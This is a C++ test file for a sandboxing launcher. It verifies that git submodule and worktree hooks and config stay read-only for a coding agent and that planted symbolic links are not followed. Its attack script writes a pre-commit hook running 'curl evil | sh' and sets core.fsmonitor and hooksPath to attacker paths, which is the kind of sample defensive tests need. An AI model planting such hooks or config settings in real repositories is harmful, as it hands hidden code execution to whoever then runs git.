// The git directories the filesystem view finds at launch
// (docs/filesystem-view.md#git-directories-found-at-launch), through
// aasm-launch under the shipped coding-agent profile as it ships, in a real
// git repository with real submodules (git submodule add: one with a
// submodule of its own, one whose name has a slash) and a real linked
// worktree (git worktree add): the submodules' hooks and config and the
// worktree's config.worktree, commondir and gitdir are read-only (EROFS),
// while git still works in the superproject and commits in the submodule,
// whose index and objects live under .git/modules/sub. Each attack has its
// control: the same script under an allow-everything plan, where it
// succeeds. Then the links: a .git/modules entry or a .git/worktrees that is
// a symbolic link is not followed, binds nothing and refuses nothing.
#include <doctest/doctest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <fstream>
#include <string>
#include <utility>
#include <vector>

#include "harness.h"
#include "supervisor/git_dirs.h"
#include "view_fixtures.h"

namespace aasm::ktest {
namespace {

// Each operation on one line: NAME OK, or NAME ERRNONAME. The rename comes
// last: under the control it succeeds and takes the submodule's git
// directory away.
const char* const kScript = R"(import errno, os
def t(name, f):
    try:
        f()
        print(name, "OK")
    except OSError as e:
        print(name, errno.errorcode[e.errno])
t("sub-new-hook", lambda: open(".git/modules/sub/hooks/pre-commit", "w").write("#!/bin/sh\ncurl evil | sh\n"))
t("sub-config", lambda: open(".git/modules/sub/config", "a").write("[core]\n\tfsmonitor = /tmp/evil\n"))
t("nested-config", lambda: open(".git/modules/sub/modules/inner/config", "a").write("[core]\n\tfsmonitor = /tmp/evil\n"))
t("slashed-name-hook", lambda: open(".git/modules/libs/in/hooks/post-checkout", "w").write("#!/bin/sh\n"))
t("worktree-config", lambda: open(".git/worktrees/wt/config.worktree", "a").write("[core]\n\thooksPath = /tmp\n"))
t("worktree-commondir", lambda: open(".git/worktrees/wt/commondir", "w").write("/tmp/evil\n"))
t("worktree-gitdir", lambda: open(".git/worktrees/wt/gitdir", "w").write("/tmp/evil/.git\n"))
t("sub-gitdir-writable", lambda: open(".git/modules/sub/made-inside", "w").write("ok\n"))
t("sub-gitdir-rename-away", lambda: os.rename(".git/modules/sub", ".git/modules/sub-old"))
)";

const std::vector<std::pair<std::string, std::string>> kAttacks = {
    {"sub-new-hook", "EROFS"},       {"sub-config", "EROFS"},      {"nested-config", "EROFS"},
    {"slashed-name-hook", "EROFS"},  {"worktree-config", "EROFS"},
    {"worktree-commondir", "EROFS"}, {"worktree-gitdir", "EROFS"}, {"sub-gitdir-rename-away", "EBUSY"},
};

// base/other: the submodule's upstream; base/ws: the superproject, the
// launch directory, with the submodule at sub/ and a linked worktree at
// base/wt whose config.worktree git made (extensions.worktreeConfig).
struct Repository {
  TempDir base{"/var/tmp"};
  const std::string ws = base / "ws";
  uid_t uid;

  explicit Repository(uid_t user) : uid(user) {
    ::chmod(base.path().c_str(), 0755);
    git(base.path(), "git init -q inner && cd inner && echo in > in.txt && git add in.txt && git commit -qm inner");
    git(base.path(), "git init -q other && cd other && echo lib > lib.txt && git add lib.txt && git commit -qm lib"
                     " && git -c protocol.file.allow=always submodule add -q ../inner inner && git commit -qm inner");
    git(base.path(), "git init -q ws && cd ws && echo top > top.txt && git add top.txt && git commit -qm top"
                     " && git -c protocol.file.allow=always submodule add -q ../other sub"
                     " && git -c protocol.file.allow=always submodule add -q ../inner libs/in"
                     " && git -c protocol.file.allow=always submodule update -q --init --recursive && git commit -qm sub"
                     " && git worktree add -q ../wt && git config extensions.worktreeConfig true"
                     " && git -C ../wt config --worktree core.editor true");
    REQUIRE(exists(ws + "/.git/modules/sub/config"));
    REQUIRE(exists(ws + "/.git/modules/sub/modules/inner/config"));  // nested: sub's own submodule
    REQUIRE(exists(ws + "/.git/modules/libs/in/config"));             // a name with a slash
    REQUIRE(exists(ws + "/.git/worktrees/wt/config.worktree"));
    write_file(ws + "/.git/info/exclude", "t.py\n");  // the script is no change of the superproject's
    write_file(ws + "/t.py", kScript);
    if (uid != 0) REQUIRE(run({"/usr/bin/chown", "-R", "65534:65534", base.path()}).exit_code == 0);
  }

  static void git(const std::string& cwd, const std::string& script) {
    const Run r = run({"/usr/bin/env", "-i", "PATH=/usr/bin:/bin", "HOME=" + cwd, "GIT_AUTHOR_NAME=u",
                       "GIT_AUTHOR_EMAIL=u@example.invalid", "GIT_COMMITTER_NAME=u",
                       "GIT_COMMITTER_EMAIL=u@example.invalid", "/bin/sh", "-c", script},
                      cwd);
    INFO(r.err);
    REQUIRE(r.exit_code == 0);
  }

  std::string compile(bool shipped) const { return compile_view_plan(base, shipped); }

  // The launcher as `uid`, with git's identity in the environment the
  // profile passes, and HOME in the view's private /tmp.
  Run launch(const std::vector<std::string>& launcher_args) const {
    std::vector<std::string> argv = {"/usr/bin/env", "-i", "PATH=/usr/bin:/bin", "LANG=C.UTF-8", "HOME=/tmp",
                                     "XDG_STATE_HOME=" + base / "state", "GIT_AUTHOR_NAME=Agent",
                                     "GIT_AUTHOR_EMAIL=agent@example.invalid", "GIT_COMMITTER_NAME=Agent",
                                     "GIT_COMMITTER_EMAIL=agent@example.invalid"};
    run_as(uid, argv);
    argv.push_back(binary("AASM_LAUNCH"));
    argv.insert(argv.end(), launcher_args.begin(), launcher_args.end());
    return run(argv, ws);
  }
};

void submodule_suite(uid_t uid) {
  SUBCASE("coding-agent: the submodule's hooks and config, the worktree's files are read-only") {
    const Repository repo(uid);
    const std::string before = mountinfo();
    const std::string receipt = repo.base / "receipt.json";
    const Run r = repo.launch({"--receipt", receipt, repo.compile(true), "--", "/usr/bin/python3", "t.py"});
    INFO(r.err, r.out);
    REQUIRE(r.exit_code == 0);
    for (const auto& [attack, answer] : kAttacks) {
      CAPTURE(attack);
      CHECK(contains(r.out, attack + " " + answer + "\n"));
    }
    CHECK(contains(r.out, "sub-gitdir-writable OK\n"));  // only the table's names are read-only
    CHECK(!exists(repo.ws + "/.git/modules/sub/hooks/pre-commit"));
    CHECK(!contains(read_file(repo.ws + "/.git/modules/sub/config"), "fsmonitor"));
    CHECK(!contains(read_file(repo.ws + "/.git/worktrees/wt/config.worktree"), "hooksPath"));
    CHECK(mountinfo() == before);
    const std::string text = read_file(receipt);
    CHECK(contains(text, "git directories found at launch, each one's hooks and config protected too: "
                         "${CWD}/.git/modules/libs/in; ${CWD}/.git/modules/sub; ${CWD}/.git/modules/sub/modules/inner; "
                         "${CWD}/.git/worktrees/wt;"));
    CHECK(contains(text, "\"path\":\"${CWD}/.git/modules/sub/config\",\"status\":\"bound\""));
    CHECK(contains(text, "\"path\":\"${CWD}/.git/worktrees/wt/gitdir\",\"status\":\"bound\""));
    // A name the submodule lacks is skipped, like the profile's optional ones.
    CHECK(contains(text, "\"path\":\"${CWD}/.git/modules/sub/commondir\",\"status\":\"skipped (optional, missing)\""));
  }
  SUBCASE("the control: the same script under an allow-everything plan, where every write succeeds") {
    const Repository repo(uid);
    const Run r = repo.launch({repo.compile(false), "--", "/usr/bin/python3", "t.py"});
    INFO(r.err, r.out);
    REQUIRE(r.exit_code == 0);
    for (const auto& [attack, answer] : kAttacks) {
      CAPTURE(attack);
      CHECK(contains(r.out, attack + " OK\n"));
    }
    CHECK(contains(read_file(repo.ws + "/.git/modules/sub-old/config"), "fsmonitor"));
  }
  SUBCASE("coding-agent: git works in the superproject and commits in the submodule and in its own") {
    const Repository repo(uid);
    const Run r = repo.launch({repo.compile(true), "--", "/bin/sh", "-c",
                               "git status --short && git submodule status >/dev/null"
                               " && cd sub/inner && echo change >> in.txt && git commit -qam in-inner"
                               " && git log -1 --format=%s && cd .."
                               " && echo change >> lib.txt && git add lib.txt inner && git commit -qm in-sub"
                               " && git log --format=%s && cd .. && git status --short"
                               " && ! git -C sub config core.fsmonitor /tmp/evil 2>/dev/null && echo protected"});
    INFO(r.err, r.out);
    CHECK(r.exit_code == 0);
    CHECK(r.out == "in-inner\nin-sub\ninner\nlib\n M sub\nprotected\n");
  }
}

}  // namespace

TEST_CASE("git dirs: a submodule's and a worktree's hooks and config are read-only under coding-agent, as root") {
  submodule_suite(0);
}
TEST_CASE("git dirs: a submodule's and a worktree's hooks and config are read-only under coding-agent, as uid 65534") {
  submodule_suite(kNobody);
}

// A link in .git/modules, or .git/worktrees as a link, is what git would
// follow, and what a planted link would use to point the protection
// elsewhere (at /etc, or outside the workspace): the walk follows none,
// binds nothing through them and refuses nothing; the launch names each,
// --dry-run and the receipt list each as not followed. The host's /etc stays
// as the profile binds it (read-only); the link out of the workspace leads
// nowhere in the view.
TEST_CASE("git dirs: symbolic links in .git/modules and .git/worktrees are not followed, bind nothing and refuse nothing") {
  const Repository repo(0);
  const std::string outside = repo.base / "outside";
  Repository::git(repo.base.path(), "mkdir -p outside/w && echo ref > outside/w/HEAD && echo x > outside/w/gitdir");
  REQUIRE(::symlink("/etc", (repo.ws + "/.git/modules/evil").c_str()) == 0);
  REQUIRE(run({"/bin/rm", "-rf", repo.ws + "/.git/worktrees"}).exit_code == 0);
  REQUIRE(::symlink(outside.c_str(), (repo.ws + "/.git/worktrees").c_str()) == 0);
  const std::string plan = repo.compile(true);

  const Run dry = repo.launch({"--dry-run", plan});
  INFO(dry.err, dry.out);
  CHECK(dry.exit_code == 0);
  CHECK(contains(dry.out, "${CWD}/.git/modules/evil: where git would look for a git directory (nothing bound), not followed (a symbolic link)"));
  CHECK(contains(dry.out, "${CWD}/.git/worktrees: where git would look for a git directory (nothing bound), not followed (a symbolic link)"));
  CHECK(contains(dry.out, "${CWD}/.git/modules/sub/config: bind, protected (found at launch"));
  CHECK(!contains(dry.out, "${CWD}/.git/modules/evil/"));
  CHECK(!contains(dry.out, "${CWD}/.git/worktrees/"));

  const std::string before = mountinfo();
  const std::string receipt = repo.base / "receipt.json";
  const Run r = repo.launch({"--receipt", receipt, plan, "--", "/bin/sh", "-c",
                             "(echo x > .git/modules/evil/planted) 2>&1 | sed 's/.*: //';"
                             " test -e .git/worktrees/w/gitdir || echo outside-absent;"
                             " (echo x > .git/modules/sub/config) 2>&1 | sed 's/.*: //';"
                             " mkdir .git/modules/new && echo ref > .git/modules/new/HEAD;"
                             " echo ../../evil > .git/modules/sub/commondir"});
  INFO(r.err, r.out);
  CHECK(r.exit_code == 0);
  // /etc is the profile's read-only tree; nothing of the link's own made it so.
  CHECK(r.out == "Read-only file system\noutside-absent\nRead-only file system\n");
  CHECK(contains(r.err, "note: '${CWD}/.git/modules/evil' is a symbolic link where a git directory could be; it is "
                        "not followed"));
  CHECK(contains(r.err, "note: '${CWD}/.git/worktrees' is a symbolic link"));
  // A git directory the command added is named at the run's end.
  CHECK(contains(r.err, "warning: the command created the git directory '${CWD}/.git/modules/new' (" + repo.ws +
                        "/.git/modules/new), which was not there at launch"));
  // So is a name the found git directory lacked at launch, as the profile's own missing ones are.
  CHECK(contains(r.err, "warning: the command created '${CWD}/.git/modules/sub/commondir' (" + repo.ws +
                        "/.git/modules/sub/commondir), a protected path that was missing at launch"));
  CHECK(mountinfo() == before);
  CHECK(read_file(outside + "/w/gitdir") == "x\n");
  const std::string text = read_file(receipt);
  CHECK(contains(text, "\"path\":\"${CWD}/.git/modules/evil\",\"status\":\"not followed (a symbolic link)\""));
  CHECK(contains(text, "symbolic links where a git directory could be, not followed (nothing bound): "
                       "${CWD}/.git/modules/evil; ${CWD}/.git/worktrees;"));
  CHECK(!contains(text, "/etc/config"));
}

// Past the walk's bounds the launch is refused, naming the bound, rather
// than leave a git directory unprotected; the control: one fewer launches.
TEST_CASE("git dirs: more nested git directories than the launcher walks refuse the launch, naming the bound") {
  const Repository repo(0);
  const std::string make = "cd .git/modules && for i in $(seq 5 " + std::to_string(git_dirs::kMaxGitDirs) +
                           "); do mkdir m$i && echo ref > m$i/HEAD; done";
  Repository::git(repo.ws, make);  // with sub, its inner, libs/in and wt: exactly the bound
  const std::string plan = repo.compile(true);
  const Run at_bound = repo.launch({plan, "--", "/usr/bin/true"});
  INFO(at_bound.err);
  CHECK(at_bound.exit_code == 0);
  Repository::git(repo.ws, "mkdir .git/modules/one-more && echo ref > .git/modules/one-more/HEAD");
  const Run over = repo.launch({plan, "--", "/usr/bin/true"});
  CHECK(over.exit_code == 125);
  CHECK(contains(over.err, "filesystem_view: " + repo.ws + "/.git holds more than " +
                               std::to_string(git_dirs::kMaxGitDirs) + " git directories"));
}

// The one table (supervisor/git_dirs.h) is what the shipped profiles and the
// view tier protect in a repository's own .git: each name of a git
// directory, none that git reads only in a linked worktree's.
TEST_CASE("git dirs: the shipped profiles protect the table's names in the repository's own .git") {
  for (const char* file : {"coding-agent.yaml", "coding-agent-web.yaml", "tiers/filesystem-view.yaml"}) {
    CAPTURE(file);
    const std::string text = read_file(binary("AASM_PROFILES") + "/" + file);
    for (const git_dirs::ProtectedName& p : git_dirs::kProtectedNames) {
      CAPTURE(p.name);
      CHECK(contains(text, "\"${CWD}/.git/" + std::string(p.name) + "\"") == !p.linked_worktree_only);
    }
  }
}

}  // namespace aasm::ktest
